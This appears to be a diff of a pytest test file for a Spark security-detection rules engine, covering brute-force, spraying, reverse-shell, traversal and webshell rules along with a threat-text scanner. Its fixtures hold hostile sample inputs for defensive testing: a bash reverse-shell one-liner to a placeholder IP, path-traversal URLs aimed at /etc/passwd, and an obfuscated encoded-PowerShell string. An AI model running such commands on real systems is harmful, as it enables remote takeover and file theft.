@@ -25,22 +25,35 @@ def test_roles(spark):
 
 def test_rules(spark):
     rows = [(1000 + k, "h", "4625", None, "failed", None, {"user": f"u{k}", "src_ip": "9.9.9.9", "host": "h"}) for k in range(12)]
-    rows += [(2000, "h", "4624", None, "ok", None, {"user": "u1", "src_ip": "9.9.9.9", "host": "h"}), (3000, "w", None, None, "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", None, {"host": "w"}), (4000, "w", None, None, "x", None, {"url": "/a?q=../../etc/passwd", "status": "500", "host": "w"})]
+    rows += [(2000, "h", "4624", None, "ok", None, {"user": "u1", "src_ip": "9.9.9.9", "host": "h"}), (3000, "w", None, None, "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", None, {"host": "w"}), (4000, "w", None, None, "x", None, {"url": "/a?q=../../etc/passwd", "status": "200", "host": "w"})]
+    rows += [(1000 + k, "h", "4625", None, "failed", None, {"user": "same", "src_ip": f"8.8.8.{k}", "host": "h"}) for k in range(5)] + [(1010, "h", "4624", None, "ok", None, {"user": "same", "src_ip": "1.1.1.1", "host": "h"})]
     rows += [(5000, "w", None, None, "POST", None, {"url": "POST /uploads/a.php", "status": "200", "src_ip": "7.7.7.7", "host": "w"}), (6000, "w", None, None, "GET", None, {"url": "GET /uploads/a.php", "status": "200", "src_ip": "7.7.7.7", "host": "w"})]
     df = rules.flat(events(spark, rows))
     found = rules.run_all(df)
     names = {r["rule"] for r in found.collect()}
-    assert names == {"auth.many-failures", "auth.spraying", "auth.failures-then-success", "c2.reverse-shell", "web.attack-server-error", "webshell.upload-dir-script", "webshell.upload-then-script"}
-    assert {r["rule"] for r in rules.run_all(df, suppressed=[("auth.spraying", "9.9.9.9"), ("c2.reverse-shell", "*")]).collect()} == names - {"auth.spraying", "c2.reverse-shell"}
-    assert {r["label"] for r in rules.evidence(found).where("rule = 'c2.reverse-shell'").collect()} == {"confirmed"}
-    assert rules.chain(found, "webshell.upload-dir-script", "webshell.upload-dir-script", 1000).count() == 3
+    assert names == {"T1110-spraying", "T1059-shell-handed-out", "T1505-script-sent", "T1190-answered-probe", "T1110-guessing", "T1110-guessed"}
+    assert {r["rule"] for r in rules.run_all(df, suppressed=[("T1110-spraying", "9.9.9.9"), ("T1059-shell-handed-out", "*")]).collect()} == names - {"T1110-spraying", "T1059-shell-handed-out"}
+    assert {r["label"] for r in rules.evidence(found).where("rule = 'T1059-shell-handed-out'").collect()} == {"strong"}
+    assert rules.chain(found, "T1505-script-sent", "T1505-script-sent", 1000).count() == 1
     t = {r["tactic"]: r["severity"] for r in rules.tactics(found).collect()}
-    assert t["credential-access"] == "high" and t["persistence"] == "critical"
+    assert t["credential-access"] == "high" and t["execution"] == "critical"
+    assert sum(r["n"] for r in rules.themes(found, 3).collect()) == found.count() and rules.themes(found, 3).select("start").distinct().count() <= 3
     with pytest.raises(ValueError):
         rules.run(df, {"id": "x", "kind": "odd"})
 
 
+def test_rules_given_as_data(spark):
+    text = '{"rules": [{"id": "x-any", "kind": "single", "any": {"list": [["kind", "equals", "A"], ["deep.v", "regex", "^9"]]}}, {"id": "x-gone", "kind": "absence", "where": "code:start", "expected": "code:end", "by": ["source"], "window": "10s"}]}'
+    df = events(spark, [(1000, "s", "start", None, None, None, {"list": '[{"kind": "a", "deep": {"v": "95"}}, {"kind": "b"}]'}), (2000, "s", "x", None, None, None, {"list": '[{"kind": "a"}, {"kind": "b", "deep": {"v": "9"}}]'}),
+                        (3000, "t", "start", None, None, None, {"list": '{"kind": "A", "deep": {"v": 9}}'}), (9000, "t", "end", None, None, None, {"list": "no json"}), (60_000, "u", "x", None, None, None, None)])
+    got = {(r["rule"], r["entity"]) for r in rules.run_all(df, rules.load_rules(text)).collect()}
+    assert got == {("x-any", "s"), ("x-any", "t"), ("x-gone", "s")}
+    with pytest.raises(ValueError):
+        rules.load_rules('[{"kind": "single"}]')
+
+
 def test_threat_texts(spark):
+    assert rules.load_threats('[{"id": "a", "pattern": "b"}]') == (("a", "other", "medium", "b"),)
     df = spark.createDataFrame([(1, "GET /%2e%2e%2f%2e%2e%2fetc/passwd"), (2, "p^ower''shell -enc AAAAAAAAAAAAAAAAAAAAAAAA"), (3, "hello"), (4, None)], "id int, t string")
     assert {(r["id"], r["threat"]) for r in rules.threat_scan(df, F.col("t")).collect()} == {(1, "traversal"), (2, "powershell-encoded")}
 
